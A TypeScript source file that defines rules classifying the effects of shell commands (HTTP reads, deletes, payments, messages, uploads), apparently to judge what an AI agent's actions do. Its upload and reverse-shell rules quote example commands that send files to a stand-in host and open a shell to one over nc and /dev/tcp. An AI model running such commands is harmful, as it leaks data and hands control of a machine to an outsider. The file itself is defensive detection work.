import { effectRule, sh, type EffectRuleText } from "./effectRule.ts";

const remote = { destructive: false, reversible: "unknown", shared: "yes" } as const;

/** Requests over HTTP and other words to other hosts. */
export const httpRules = {
  read: effectRule("http.read", {
    title: "A request that reads", effect: { class: "read_only", destructive: false, reversible: "yes", shared: "no" },
    why: "GET, HEAD and OPTIONS are made to change nothing; a POST to search or to query reads too.",
    matches: [sh("curl https://api.example/v1/orders"), sh("curl -X POST https://api.example/v1/search -d q=x")], not: [sh("curl -X DELETE https://api.example/v1/orders/1")],
  }),
  readSuspicious: effectRule("http.read.verb", {
    title: "A reading request to an address that says that it changes something", effect: { ...remote, class: "unknown" },
    why: "Some services change things on GET: the last words of the path say so.",
    matches: [sh("curl 'https://admin.example/delete_user?id=3'")], not: [sh("curl https://api.example/v1/deleted-users")],
  }),
  delete: effectRule("http.delete", {
    title: "A request that deletes", effect: { ...remote, class: "data_mutation", destructive: true },
    why: "DELETE removes what the address names; whether the service keeps a copy is not in the call.",
    matches: [sh("curl -X DELETE https://api.example/v1/orders/1"), sh("http DELETE https://api.example/v1/orders/1")], not: [sh("curl https://api.example/v1/orders/1")],
  }),
  postDelete: effectRule("http.post.delete", {
    title: "A request whose address says that it deletes", effect: { ...remote, class: "data_mutation", destructive: true },
    why: "The last words of the path name the deed.",
    matches: [sh("curl -X POST https://api.example/v1/orders/1/purge")], not: [sh("curl -X POST https://api.example/v1/orders")],
  }),
  change: effectRule("http.change", {
    title: "A request that changes something", effect: { ...remote, class: "data_mutation" },
    why: "PUT, PATCH and POST make or change what the address names.",
    matches: [sh("curl -X PUT https://api.example/v1/orders/1 -d @o.json"), sh("curl -d a=b https://api.example/v1/orders")], not: [sh("curl -X DELETE https://api.example/v1/orders/1")],
  }),
  configure: effectRule("http.configure", {
    title: "A request that changes a setting", effect: { ...remote, class: "config_change", reversible: "yes" },
    why: "The address names settings, policies, roles or flags: the old value can be set again.",
    matches: [sh("curl -X PATCH https://api.example/v1/settings -d a=b")], not: [sh("curl -X PATCH https://api.example/v1/orders/1 -d a=b")],
  }),
  infrastructure: effectRule("http.infrastructure", {
    title: "A request to a provider's management interface that changes what runs", effect: { ...remote, class: "infrastructure" },
    why: "The host manages machines, volumes, zones or deployments.",
    matches: [sh("curl -X POST https://api.digitalocean.com/v2/droplets -d @d.json")], not: [sh("curl https://api.digitalocean.com/v2/droplets")],
  }),
  infrastructureDelete: effectRule("http.infrastructure.delete", {
    title: "A request to a provider's management interface that destroys", effect: { ...remote, class: "infrastructure", destructive: true },
    why: "The host manages machines, volumes, zones or deployments, and the request removes one.",
    matches: [sh("curl -X DELETE https://api.digitalocean.com/v2/droplets/12")], not: [sh("curl -X DELETE https://api.example/v1/orders/1")],
  }),
  message: effectRule("http.message", {
    title: "A request that sends a message to people", effect: { class: "external_communication", destructive: false, reversible: "no", shared: "yes", counts: "recipients" },
    why: "Chat, mail and telephone services deliver at once.",
    matches: [sh("curl -X POST https://hooks.slack.com/services/T/B/X -d '{\"text\":\"hi\"}'")], not: [sh("curl https://slack.com/api/users.list")],
  }),
  spend: effectRule("http.spend", {
    title: "A request that moves money", effect: { class: "data_mutation", destructive: true, reversible: "no", shared: "yes", counts: "amount" },
    why: "A payment service charges, refunds or transfers at once.",
    matches: [sh("curl -X POST https://api.stripe.com/v1/refunds -d charge=ch_1")], not: [sh("curl https://api.stripe.com/v1/refunds")],
  }),
  download: effectRule("http.download", {
    title: "A file is fetched", effect: { class: "read_only", destructive: false, reversible: "yes", shared: "no" },
    why: "The answer of a reading request is kept as a file. If it is run later, what it does is not in the evidence.",
    matches: [sh("curl -o tool.tgz https://get.example/tool.tgz"), sh("wget https://get.example/tool.tgz")], not: [sh("curl https://get.example/")],
  }),
  upload: effectRule("http.upload", {
    title: "A file or text goes to another host", effect: { class: "external_communication", destructive: false, reversible: "no", shared: "yes" },
    why: "What was sent stands on another machine.",
    matches: [sh("nc drop.example 9000 < notes.md"), sh("cat notes.md > /dev/tcp/drop.example/9000")], not: [sh("nc -z db.example 5432")],
  }),
  uploadUnseen: effectRule("http.upload.unseen", {
    title: "A file that the call does not name goes to another host", effect: { class: "unknown", destructive: false, reversible: "unknown", shared: "yes" },
    why: "Which file a variable names is worked out when it runs: it may be any.",
    matches: [sh('curl -F "f=@$FILE" https://files.example')], not: [sh("curl -F f=@report.pdf https://files.example")],
  }),
  connection: effectRule("net.connection", {
    title: "A connection whose words are not in the call", effect: { class: "unknown", destructive: false, reversible: "unknown", shared: "yes" },
    why: "What is said over it is typed or computed elsewhere.",
    matches: [sh("telnet mail.example 25")], not: [sh("nc -z db.example 5432")],
  }),
  reverseShell: effectRule("net.reverse-shell", {
    title: "A shell is given to another host", effect: { class: "external_communication", destructive: true, reversible: "no", shared: "yes" },
    why: "Whoever is at the other end can do all that the agent can; what they did is not in the evidence.",
    matches: [sh("nc -e /bin/sh drop.example 9000"), sh("bash -i >& /dev/tcp/203.0.113.9/9000 0>&1")], not: [sh("nc -z db.example 22")],
  }),
} satisfies Record<string, EffectRuleText>;
